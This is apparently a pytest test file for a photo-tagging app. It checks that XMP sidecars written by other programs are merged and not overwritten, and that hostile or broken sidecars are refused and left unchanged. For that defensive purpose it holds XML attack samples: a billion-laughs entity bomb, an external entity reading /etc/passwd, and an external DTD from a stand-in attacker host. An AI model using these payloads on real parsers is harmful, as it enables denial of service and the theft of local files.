"""Sidecars other programs wrote are merged, never clobbered; hostile or broken ones are refused and left alone."""

import shutil
from pathlib import Path
from xml.dom import minidom
from xml.etree.ElementTree import canonicalize

import pytest

from photo_tagger.core.errors import PhotoTaggerError
from photo_tagger.core.jobs import JobControl
from photo_tagger.core.keywords import KeywordSet, merge
from photo_tagger.core.sidecars import export_sidecars
from photo_tagger.core.tagging import TagDecision
from photo_tagger.core.types import PhotoRecord
from photo_tagger.infra.catalog import Catalog
from photo_tagger.infra.xmp_packet import RDF
from photo_tagger.infra.xmp_sidecar import KEYWORDS, OURS, XmpKeywordReader, XmpSidecars

SAMPLES = Path(__file__).parent.parent / "xmp_samples"
WANTED = KeywordSet(("dog", "holiday"), ("AI|dog", "holiday", "AI|Sensitive|violence"),
                    ("AI/dog", "holiday", "AI/Sensitive/violence"))
# What each program's sidecar holds in dc:subject, lr:hierarchicalSubject, digiKam:TagsList.
HELD = {
    "darktable.xmp": KeywordSet(("Nature", "lake"), ("Nature|lake", "darktable|format|jpg", "darktable|changed")),
    "lightroom.xmp": KeywordSet(("Geneva", "Places", "Switzerland"), ("Places|Switzerland|Geneva",)),
    "digikam.xmp": KeywordSet(("Ann", "Christmas 2022"), ("People|Ann", "Events|Christmas 2022"),
                              ("People/Ann", "Events/Christmas 2022")),
    "adobe_blocks.xmp": KeywordSet(("Rome", "Trips"), ("Trips|Rome",)),
}


def without_keywords(text: bytes) -> str:
    """The XMP without the six properties the app writes, in canonical form (C14N 2.0, whitespace between
    elements stripped, unused namespace declarations dropped): two packets that give the same text hold the
    same fields with the same values, with the same prefixes."""
    names = [f"{{{namespace}}}{name}" for namespace, _, name, _ in (*KEYWORDS, *OURS)]
    return canonicalize(text.decode("utf-8"), strip_text=True, exclude_tags=names, exclude_attrs=names)


@pytest.mark.parametrize("sample", sorted(HELD))
def test_every_field_another_program_wrote_survives_a_write(tmp_path, sample):
    photo = tmp_path / "IMG_1.jpg"
    sidecar = tmp_path / "IMG_1.jpg.xmp"
    shutil.copyfile(SAMPLES / sample, sidecar)
    original = sidecar.read_bytes()
    sidecars = XmpSidecars()
    existing = sidecars.read(str(photo))
    assert existing.present == HELD[sample] and existing.ours is None

    result = merge(existing, WANTED)
    sidecars.write(str(photo), result.present, result.ours)
    written = sidecar.read_bytes()
    assert without_keywords(written) == without_keywords(original)  # every other field, byte for meaning
    got = sidecars.read(str(photo))
    for theirs, now, ours in zip(HELD[sample].fields(), got.present.fields(), WANTED.fields()):
        assert now == tuple(dict.fromkeys([*theirs, *ours]))  # their keywords first and in order, then ours
    assert got.ours == result.ours
    # The wrapper and the declaration stay as the program wrote them.
    for marker in (b"<?xml ", b"<?xpacket begin=", b"<?xpacket end="):
        assert (marker in written) == (marker in original), marker

    # Written again with fewer keywords: theirs stay, the file is otherwise the same.
    fewer = merge(got, KeywordSet(("beach",), ("AI|beach",), ("AI/beach",)))
    sidecars.write(str(photo), fewer.present, fewer.ours)
    assert without_keywords(sidecar.read_bytes()) == without_keywords(original)
    again = sidecars.read(str(photo))
    assert again.present.subject == (*HELD[sample].subject, "beach")
    # And with none of ours: back to the same fields and keywords as the program wrote.
    none = merge(again, KeywordSet())
    sidecars.write(str(photo), none.present, none.ours)
    assert sidecars.read(str(photo)).present == HELD[sample] and sidecars.read(str(photo)).ours is None
    assert without_keywords(sidecar.read_bytes()) == without_keywords(original)


def test_properties_in_separate_description_blocks_are_replaced_where_they_are(tmp_path):
    photo = tmp_path / "IMG_1.jpg"
    sidecar = tmp_path / "IMG_1.jpg.xmp"
    shutil.copyfile(SAMPLES / "adobe_blocks.xmp", sidecar)
    sidecars = XmpSidecars()
    result = merge(sidecars.read(str(photo)), WANTED)
    sidecars.write(str(photo), result.present, result.ours)
    document = minidom.parseString(sidecar.read_bytes())
    blocks = [d for d in document.getElementsByTagNameNS(RDF, "Description") if d.parentNode.localName == "RDF"]
    assert len(blocks) == 5  # none added, none merged
    where = {(e.namespaceURI, e.localName): blocks.index(d) for d in blocks for e in d.childNodes
             if e.nodeType == e.ELEMENT_NODE}
    namespaces = dict((name, ns) for ns, _, name, _ in (*KEYWORDS, *OURS))
    assert where[(namespaces["subject"], "subject")] == 3  # the dc block
    assert where[(namespaces["hierarchicalSubject"], "hierarchicalSubject")] == 4  # the lr block
    assert len({where[(namespaces[name], name)] for name in namespaces}) == 3  # each property once


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:subject><rdf:Bag><rdf:li>&lol2;</rdf:li>
</rdf:Bag></dc:subject></rdf:Description></rdf:RDF></x:xmpmeta>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:subject><rdf:Bag><rdf:li>&secret;</rdf:li>
</rdf:Bag></dc:subject></rdf:Description></rdf:RDF></x:xmpmeta>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE x:xmpmeta SYSTEM "http://attacker.invalid/evil.dtd">
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>"""
HOSTILE = {
    "billion laughs": (BILLION_LAUGHS, "DTD"),
    "external entity": (EXTERNAL_ENTITY, "DTD"),
    "external DTD": (EXTERNAL_DTD, "DTD"),
    "truncated": ((SAMPLES / "digikam.xmp").read_text("utf-8")[:900], "not well-formed XML"),
    "not XMP": ("<html><body>hello</body></html>", "not XMP"),
    "no rdf:RDF": ('<x:xmpmeta xmlns:x="adobe:ns:meta/"/>', "not XMP"),
    "deep": ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
             + "<a>" * 5000 + "</a>" * 5000 + "</rdf:RDF></x:xmpmeta>", "levels deep"),
    "binary": ("\x00\x01PK\x03\x04 not xml at all", "not"),
    "huge": ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><!--' + "x" * (33 * 1024 * 1024) + "--></x:xmpmeta>", "larger than"),
}


@pytest.fixture
def catalog(tmp_path):
    catalog = Catalog(tmp_path / "catalog.sqlite3")
    yield catalog
    catalog.close()


def index_one(catalog: Catalog, photo: Path) -> None:
    """The photo as indexed and tagged `dog` (what export reads from the catalog)."""
    catalog.add_root(str(photo.parent), 0.0)
    with catalog.transaction() as db:
        catalog.write(db, upserts=[PhotoRecord(id="p1", root=str(photo.parent), relpath=photo.name, size=1,
                                               mtime_ns=1, content_hash="h1", status="indexed")])
        catalog.write_decisions(db, {"p1": TagDecision(tags=(("dog", 0.9),))})


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_or_broken_sidecar_is_refused_with_one_line_and_kept(tmp_path, case, caplog, catalog):
    text, reason = HOSTILE[case]
    photo = tmp_path / "photos" / "IMG_1.jpg"
    photo.parent.mkdir()
    photo.write_bytes((SAMPLES / "keywords.jpg").read_bytes())
    index_one(catalog, photo)
    sidecar = photo.parent / "IMG_1.jpg.xmp"
    sidecar.write_bytes(text.encode("utf-8"))
    before = (sidecar.read_bytes(), sidecar.stat().st_mtime_ns, photo.read_bytes(), photo.stat().st_mtime_ns)

    with pytest.raises(OSError) as refused:
        XmpSidecars().read(str(photo))
    assert reason in refused.value.strerror and "\n" not in refused.value.strerror
    assert str(sidecar) in refused.value.strerror and "left as it is" in refused.value.strerror

    report = export_sidecars(catalog, XmpSidecars(), control=JobControl())
    assert report.written == 0 and [s.path for s in report.skipped] == [str(photo)]
    assert reason in report.skipped[0].reason
    # Import still reads what the photo itself carries; the refused sidecar adds nothing.
    assert "hiking" in XmpKeywordReader().keywords(photo.read_bytes(), str(photo))
    assert any(reason in r.getMessage() for r in caplog.records)
    assert (sidecar.read_bytes(), sidecar.stat().st_mtime_ns, photo.read_bytes(), photo.stat().st_mtime_ns) == before
    assert sorted(p.name for p in photo.parent.iterdir()) == ["IMG_1.jpg", "IMG_1.jpg.xmp"]


def test_prefixes_are_the_files_own_and_a_taken_prefix_is_not_reused(tmp_path):
    photo = tmp_path / "IMG_1.jpg"
    sidecar = tmp_path / "IMG_1.jpg.xmp"
    # dc under another prefix; "lr" bound to some other program's namespace.
    sidecar.write_text(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:purl="http://purl.org/dc/elements/1.1/" '
        'xmlns:lr="http://example.invalid/other/"><purl:subject><rdf:Bag><rdf:li>Alps</rdf:li></rdf:Bag>'
        '</purl:subject><lr:note>theirs</lr:note></rdf:Description></rdf:RDF></x:xmpmeta>', "utf-8")
    sidecars = XmpSidecars()
    result = merge(sidecars.read(str(photo)), WANTED)
    sidecars.write(str(photo), result.present, result.ours)
    text = sidecar.read_text("utf-8")
    assert "<purl:subject>" in text and "<dc:" not in text
    assert 'xmlns:lr1="http://ns.adobe.com/lightroom/1.0/"' in text and "<lr1:hierarchicalSubject>" in text
    assert "<lr:note>theirs</lr:note>" in text
    got = sidecars.read(str(photo))
    assert got.present.subject == ("Alps", "dog", "holiday") and got.present.hierarchical == WANTED.hierarchical


def test_a_sidecar_the_previous_version_wrote_through_exiv2_is_the_apps_own(tmp_path):
    photo = tmp_path / "IMG_1.jpg"
    sidecar = tmp_path / "IMG_1.jpg.xmp"
    shutil.copyfile(SAMPLES / "photo_tagger_exiv2.xmp", sidecar)
    sidecars = XmpSidecars()
    existing = sidecars.read(str(photo))
    assert existing.ours == WANTED
    assert existing.present == KeywordSet(*(tuple(dict.fromkeys([*theirs, *ours]))
                                            for theirs, ours in zip(HELD["digikam.xmp"].fields(), WANTED.fields())))
    assert merge(existing, WANTED).status == "unchanged"  # nothing to rewrite after the upgrade
    changed = merge(existing, KeywordSet(("beach",), ("AI|beach",), ("AI/beach",)))
    sidecars.write(str(photo), changed.present, changed.ours)
    assert sidecars.read(str(photo)).present == KeywordSet(
        ("Ann", "Christmas 2022", "beach"), ("People|Ann", "Events|Christmas 2022", "AI|beach"),
        ("People/Ann", "Events/Christmas 2022", "AI/beach"))
    previous = (SAMPLES / "photo_tagger_exiv2.xmp").read_bytes()
    assert without_keywords(sidecar.read_bytes()) == without_keywords(previous)


def test_the_sidecar_service_notes_what_it_wrote_and_adds_albums_when_the_setting_says(tmp_path, catalog):
    """SidecarService from its parts (a catalog on tmp, the XMP store, the setting as a callable): the albums follow
    the setting as it is at each export, and each sidecar written is noted as the app's own."""
    from photo_tagger.core.watching import OwnWrites
    from photo_tagger.services.sidecars import SidecarService

    photo = tmp_path / "photos" / "IMG_1.jpg"
    photo.parent.mkdir()
    photo.write_bytes((SAMPLES / "keywords.jpg").read_bytes())
    index_one(catalog, photo)
    with catalog.transaction() as db:
        album = catalog.create_album(db, "Trip", 0.0)
        catalog.add_to_album(db, album, ["p1"], 0.0)
    setting = [False]
    service = SidecarService(catalog=catalog, sidecars=XmpSidecars(), sidecar_albums=lambda: setting[0])
    sidecar = photo.parent / "IMG_1.jpg.xmp"

    report = service.write_sidecars(folder=None, overwrite_ours=False, progress=None, control=JobControl())
    assert report.written == 1 and "dog" in sidecar.read_text() and "Trip" not in sidecar.read_text()
    setting[0] = True
    own = OwnWrites()
    report = service.write_sidecars(folder=str(photo.parent), overwrite_ours=False, progress=None,
                                    control=JobControl(), own_writes=own)
    assert report.written == 1 and "Albums|Trip" in sidecar.read_text()
    assert own.is_own(str(sidecar))
    assert service.folder_in_library(photo.parent) == str(photo.parent.resolve())
    with pytest.raises(PhotoTaggerError, match="is not in the library"):
        service.folder_in_library(tmp_path)  # above the watched folder
